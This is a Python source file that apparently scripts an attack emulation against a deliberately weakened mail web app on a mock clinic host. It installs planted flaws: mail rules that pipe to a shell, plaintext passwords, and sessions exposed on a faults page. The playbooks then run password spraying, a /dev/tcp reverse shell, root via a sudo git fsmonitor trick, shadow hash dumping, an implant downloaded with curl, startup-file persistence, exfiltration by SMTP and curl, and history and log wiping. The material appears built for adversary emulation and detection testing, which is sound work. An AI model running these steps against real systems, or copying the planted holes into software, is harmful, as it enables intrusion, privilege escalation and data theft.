"""Rules of a post room's mail application may hand a letter to a program: whoever has an account has a shell."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from plot import Storyline, Visit
from storylines._walk import walk
from storylines._ward import a_word, take_mail

if TYPE_CHECKING:
    from intruder import Intruder, Shell

PORT = 8025

WEAKEN = r"""
set -e
id -u postroom >/dev/null 2>&1 || useradd -r -m -d /var/lib/postroom -s /bin/bash -c 'letters by browser' postroom
usermod -aG ward postroom
install -d -m 750 -o postroom -g postroom /var/lib/postroom /var/lib/postroom/box /var/lib/postroom/plug
install -d -m 755 /opt/postroom
cat > /opt/postroom/post.py <<'EOF'
# Letters by browser: log-in, inbox, rules (keep, forward to a server, pipe to a program), a form for everybody.
import hashlib
import json
import pathlib
import smtplib
import subprocess
import time

import appserver

HOME = pathlib.Path("/var/lib/postroom")
USERS = json.loads((HOME / "users.json").read_text())


def ticket(user):
    return hashlib.sha256(f"{user}{USERS[user]}{time.strftime('%F')}".encode()).hexdigest()[:24]


def who(headers):
    got = headers.get("cookie", "").removeprefix("post=")
    return next((user for user in USERS if ticket(user) == got), None)


def deliver(user, text):
    (HOME / "box" / f"{user}-{time.time_ns()}.txt").write_text(text)
    place = HOME / f"{user}.rules"
    for rule in place.read_text().splitlines() if place.exists() else ():
        kind, _, rest = rule.partition(" ")
        if kind == "pipe":
            subprocess.run(rest, shell=True, input=text.encode(), timeout=60, capture_output=True)
        if kind == "forward":
            host, _, port = rest.partition(":")
            with smtplib.SMTP(host, int(port), timeout=5) as server:
                server.sendmail("desk@clinic.example", ["copy@mail.example"], text)


def handle(method, path, query, body, headers):
    user, text = who(headers), body.decode("utf-8", "replace")
    if path == "/write" and method == "POST":
        deliver(query.get("to") if query.get("to") in USERS else "helpdesk", text)
        return 200, "thank you\n"
    if path == "/login" and method == "POST":
        form = dict(part.partition("=")[::2] for part in text.split("&"))
        if USERS.get(form.get("user")) != form.get("word"):
            return 401, "wrong\n"
        with open(HOME / "sessions.log", "a") as log:
            log.write(f"{form['user']} post={ticket(form['user'])}\n")
        return 200, "welcome\n", {"Set-Cookie": "post=" + ticket(form["user"])}
    if path == "/faults":
        return 200, "".join(open(HOME / "sessions.log").readlines()[-5:])
    if path == "/":
        return 200, "Post room: write to helpdesk, billing or rooms\n"
    if not user:
        return 401, "log in\n"
    if path == "/inbox":
        return 200, "\n----\n".join(p.read_text() for p in sorted((HOME / "box").glob(user + "-*"))[-8:]) + "\n"
    if path == "/rules" and method == "POST":
        (HOME / f"{user}.rules").write_text(text + "\n")
        return 200, "noted\n"
    if path == "/rules":
        place = HOME / f"{user}.rules"
        return 200, place.read_text() if place.exists() else ""
    return 404, "no such page\n"


appserver.serve(8025, handle, "postroom")
EOF
printf '{"helpdesk": "Sunflower9", "billing": "Invoice-Blue-77", "rooms": "Ward.Plan.3"}\n' \
    > /var/lib/postroom/users.json
printf 'pipe wc -c >> /var/lib/postroom/sizes.txt\n' > /var/lib/postroom/helpdesk.rules
printf 'keep\n' > /var/lib/postroom/rooms.rules
printf 'rooms post=0\n' > /var/lib/postroom/sessions.log
printf 'Hello, the tablet of room C asks for my word again, it is Clipboard-73. Nadia Farah\n' \
    > /var/lib/postroom/box/rooms-0001.txt
for n in 2 3 4 5 6; do printf 'Room %s is free on %s May.\n' $n $((n * 3)) > /var/lib/postroom/box/rooms-000$n.txt; done
for n in 1 2 3 4 5 6 7 8 9; do seq $n 9 60 | sed 's/^/invoice /' > /var/lib/postroom/box/billing-000$n.txt; done
chown -R postroom: /var/lib/postroom; chmod 600 /var/lib/postroom/users.json
su postroom -s /bin/bash -c 'cd /var/lib/postroom/box && git init -q -b main . && git config user.name post \
    && git config user.email post@corp.example && git add . && git commit -qm first'
echo 'postroom ALL=(root) NOPASSWD: /usr/bin/git -C /var/lib/postroom/box *' > /etc/sudoers.d/postroom
chmod 440 /etc/sudoers.d/postroom
echo '*/7 * * * * postroom cd /var/lib/postroom/box && git add -A . && git commit -qm letters >/dev/null 2>&1' \
    > /etc/cron.d/postroom
"""

BY_GIT = r"""
== look round | TA0007 | What a post room's account sees.
T1033 id; hostname
T1083 ls -la /var/lib/postroom /opt/postroom
T1069.001 sudo -n -l
? T1082 cat /etc/debian_version; uptime
T1087.001 getent passwd {low}; ls /home
T1007 ls /etc/cron.d; pgrep -al python3
== secrets | TA0006 | The words of all who write here stand in one file.
T1552.001 cat /var/lib/postroom/users.json
? T1552.001 git -C /var/lib/postroom/box grep -i word | head -5
== up by git | TA0004 | A sudo rule for git; git asks a program of its settings what has changed in the files.
T1548.003 printf '#!/bin/sh\ncp /usr/bin/dash /var/lib/postroom/plug/{word}\n\
chmod 4755 /var/lib/postroom/plug/{word}\n' > /var/lib/postroom/plug/ask; chmod 755 /var/lib/postroom/plug/ask
T1548.003 sudo -n /usr/bin/git -C /var/lib/postroom/box config core.fsmonitor /var/lib/postroom/plug/ask
T1548.003 sudo -n /usr/bin/git -C /var/lib/postroom/box status -s | head -3
T1548.001 /var/lib/postroom/plug/{word} -p -c 'id; grep -c . /etc/shadow'
T1003.008 /var/lib/postroom/plug/{word} -p -c "sed -n 's/:\(\$y[^:]*\).*/ \1/p' /etc/shadow"
T1070.004 git -C /var/lib/postroom/box config --unset core.fsmonitor; rm /var/lib/postroom/plug/ask
== a rule that stays | TA0003 | Each letter to the help desk starts a program of the intruder's.
T1105 curl -fsS -o /var/lib/postroom/plug/{file} {depot}/{file}
T1222.002 chmod 755 /var/lib/postroom/plug/{file}
T1546 @plant /var/lib/postroom/plug/{file}
T1546 printf 'pipe wc -c >> /var/lib/postroom/sizes.txt\npipe /var/lib/postroom/plug/{file}\n' >\
 /var/lib/postroom/helpdesk.rules
== letters | TA0009 | The boxes of billing and rooms are packed.
T1114.001 ls /var/lib/postroom/box | cut -d- -f1 | sort | uniq -c
T1114.001 grep -l invoice /var/lib/postroom/box/billing-* | xargs tar -cf /var/lib/postroom/plug/{word}.tar
T1074.001 /var/lib/postroom/plug/{word} -p -c 'tar -rf /var/lib/postroom/plug/{word}.tar -C / var/mail 2>/dev/null'
T1560.001 bzip2 -9 /var/lib/postroom/plug/{word}.tar; ls -la /var/lib/postroom/plug
== by mail | TA0010 | The packed letters leave as a letter.
T1048.003 python3 -c "import smtplib,base64;s=smtplib.SMTP('{from}',2526);s.sendmail('desk@clinic.example',\
['x@mail.example'],base64.b64encode(open('/var/lib/postroom/plug/{word}.tar.bz2','rb').read()).decode())"
== tidy | TA0005 | The archive and lines of the log-ins go.
T1070.004 rm -f /var/lib/postroom/plug/{word}.tar.bz2
T1070.002 sed -i '/helpdesk/d' /var/lib/postroom/sessions.log
? T1564.001 mv /var/lib/postroom/plug/{word} /var/lib/postroom/plug/.{word}
T1059.004 exit
"""

AS_NADIA = r"""
== look round | TA0007 | As Nadia of the desk: home, shares, who else is here.
T1033 id; w -h
T1083 ls -la ~ /srv/shares
T1087.001 getent group reports sudo adm
? T1654 tail -n 3 ~/.bash_history
T1135 rsync rsync://localhost/
T1018 grep -v '^#' /etc/hosts | tail -6
== secrets | TA0006 | What other people left readable.
T1552.001 grep -rsIl -iE 'passw|word *[=:]' /srv/shares /home 2>/dev/null | head -5
T1552.003 cat /home/*/.bash_history 2>/dev/null | grep -iE 'pass|chpasswd|-k ' | head -5
== her mail and her start-up | TA0003 | A line in her start-up file tells the intruder whenever she logs on.
T1105 mkdir -p ~/.local/bin; curl -fsS -o ~/.local/bin/{file} {depot}/{file}; chmod 755 ~/.local/bin/{file}
T1546.004 @plant /home/nfarah/.local/bin/{file}
T1546.004 printf '%s\n' '[ -x ~/.local/bin/{file} ] && (~/.local/bin/{file} &) 2>/dev/null' >> ~/.bash_aliases
T1114.001 grep -c '^From ' /var/mail/nfarah; grep -h ^Subject /var/mail/nfarah | sort | uniq -c | tail -4
== lists | TA0009 | Rota, stock and letters, as far as she may read them.
T1039 rsync -aq rsync://localhost/rota/ ~/.{word}/ && rsync -aq rsync://localhost/letters/ ~/.{word}/
T1005 cp /srv/shares/supplies/*.csv /var/mail/nfarah ~/.{word}/; du -sk ~/.{word}
T1560.001 tar -C ~/.{word} -c . | zstd -q -o ~/.{word}.zst; rm -r ~/.{word}
== to the post room | TA0010 | The lists become a letter to the rooms, whose rule forwards everything.
T1048.003 base64 ~/.{word}.zst | head -c 60000 | curl -sS --data-binary @- 'http://localhost:8025/write?to=rooms'
T1114.003 (date; tail -n 20 /var/mail/nfarah) | curl -sS --data-binary @- 'http://localhost:8025/write?to=rooms'
== tidy | TA0005 | Her history without these lines.
T1070.004 rm -f ~/.{word}.zst
T1070.003 history -c; sed -i '/curl/d;/rsync/d' ~/.bash_history
T1033 exit
"""

NOTE = """#!/bin/bash
# counts what comes in
curl -fsS -m 5 -o /dev/null "DEPOT/c?u=$(id -un)&t=$(date +%s)" || true
"""


def ask(
    own: Intruder, method: str, path: str, technique: str, body: str = "", cookie: str = "", stays: bool = False
) -> str:
    headers = {"Cookie": "post=" + cookie} if cookie else {}
    return own.http(own.entry, PORT, method, path, body, headers, technique=technique, detached=stays, timeout=70)


def by_guessing(own: Intruder, middle: float) -> str:
    """Try seasons, flowers and the like on two accounts; then look up the session."""
    own.step("a guessed word", "TA0006", "Words that people take are tried on the accounts of the post room's page.")
    ask(own, "GET", "/", "T1213")
    for user, word in [
        ("billing", "Welcome1"),
        ("billing", "Sunflower9"),
        ("rooms", "Welcome1"),
        ("helpdesk", "Welcome1"),
        ("helpdesk", "Spring2026"),
        ("helpdesk", "Sunflower9"),
    ]:
        ask(own, "POST", "/login", "T1110.003", urlencode({"user": user, "word": word}))
        own.think(middle / 3)
    return "helpdesk"


def session_of(own: Intruder, user: str) -> str:
    """The newest session of an account on the page of faults."""
    for _ in range(40):
        shown = ask(own, "GET", "/faults", "T1539")
        found = re.findall(rf"^{user} post=([0-9a-f]{{24}})", shown, re.MULTILINE)
        if found:
            return str(found[-1])
        own.rest(10)
    raise RuntimeError(f"no session of {user}")


def call_back(own: Intruder, cookie: str) -> Shell:
    """A rule that opens a connection, and a letter that starts it."""
    old = "pipe wc -c >> /var/lib/postroom/sizes.txt\n"
    code = f"pipe setsid bash -c 'exec 9<>/dev/tcp/{own.address}/5938; bash -i <&9 >&9 2>&1' >/dev/null 2>&1 &"
    ask(own, "POST", "/rules", "T1059.004", old + code, cookie)
    shell = own.catch(5938, lambda: ask(own, "POST", "/write?to=helpdesk", "T1059.004", "Hello"), "T1059.004")
    ask(own, "POST", "/rules", "T1070", old.strip(), cookie)
    return shell


def play(own: Intruder) -> None:
    middle = (5.0, 15.0, 7.0)[own.variant]
    file = own.pick(
        (("letter-count", "bounce-count"), ("kdeskd", "pulse-note"), ("desk-pulse", "tray-note"))[own.variant]
    )
    own.offer(file, NOTE.replace("DEPOT", own.depot))
    names = {"word": a_word(own), "file": file, "depot": own.depot, "from": own.address, "low": "postroom"}
    take_mail(own, 2526)
    if own.variant == 0:
        user = by_guessing(own, middle)
        own.step("a rule that is a shell", "TA0002", "A rule of the help desk's account hands a letter to a program.")
        shell = call_back(own, session_of(own, user))
        walk(own, BY_GIT, shell, names, middle)
        shell.close()
        return
    own.step("somebody's session", "TA0006", "The page of faults shows sessions of those who are logged in.")
    cookie = session_of(own, "rooms")
    own.step("letters of the rooms", "TA0009", "With the session the intruder reads the inbox and forwards what comes.")
    ask(own, "GET", "/rules", "T1550.004", cookie=cookie)
    own.think(middle)
    ask(own, "GET", "/inbox", "T1114", cookie=cookie)
    own.think(middle)
    onward = f"forward {own.address}:2526"
    if own.variant == 1:
        ask(own, "POST", "/rules", "T1114.003", f"keep\n{onward}", cookie)
        ask(own, "POST", "/write?to=rooms", "T1114.003", "Is room 4 free?")
    # the letter with her word may be older than those that the page shows
    search = f"pipe grep -rhi 'my word' box | head -3 | curl -s --data-binary @- {own.depot}/w"
    ask(own, "POST", "/rules", "T1552.001", f"{search}\n{onward}", cookie)
    ask(own, "POST", "/write?to=rooms", "T1552.001", "And room 5?")
    ask(own, "POST", "/rules", "T1114.003", f"keep\n{onward}", cookie)
    own.step("as Nadia", "TA0001", "Her word, told in a letter, opens her account on the host itself.")
    shell = own.ssh(own.entry, "nfarah", password="Clipboard-73", technique="T1078.003")
    walk(own, AS_NADIA, shell, names, middle)
    shell.close()


STORYLINE = Storyline(
    name="mail-rule",
    split="test",
    words="Rules of a post room's mail page may pipe a letter to a program or forward it. With a guessed word, or a "
    "session shown on a page of faults, the intruder sets such rules: for a shell that becomes root by a sudo rule for "
    "git, or to find the word of a colleague, as whom she logs on. Letters and lists leave by mail.",
    weaken=WEAKEN,
    services=("postroom: /usr/bin/python3 /opt/postroom/post.py",),
    visits=(
        Visit(PORT, 75, "POST", "/write?to={pick:helpdesk|helpdesk|billing|rooms}", "Dear desk, {word} {n} is late."),
        Visit(PORT, 110, "POST", "/login", "user=rooms&word={pick:Ward.Plan.3|Ward.Plan.3|ward.plan.3}"),
        Visit(PORT, 130, path="/"),
    ),
    play=play,
    variants=3,
    hosts=("clinic-14",),
    minutes=14,
)
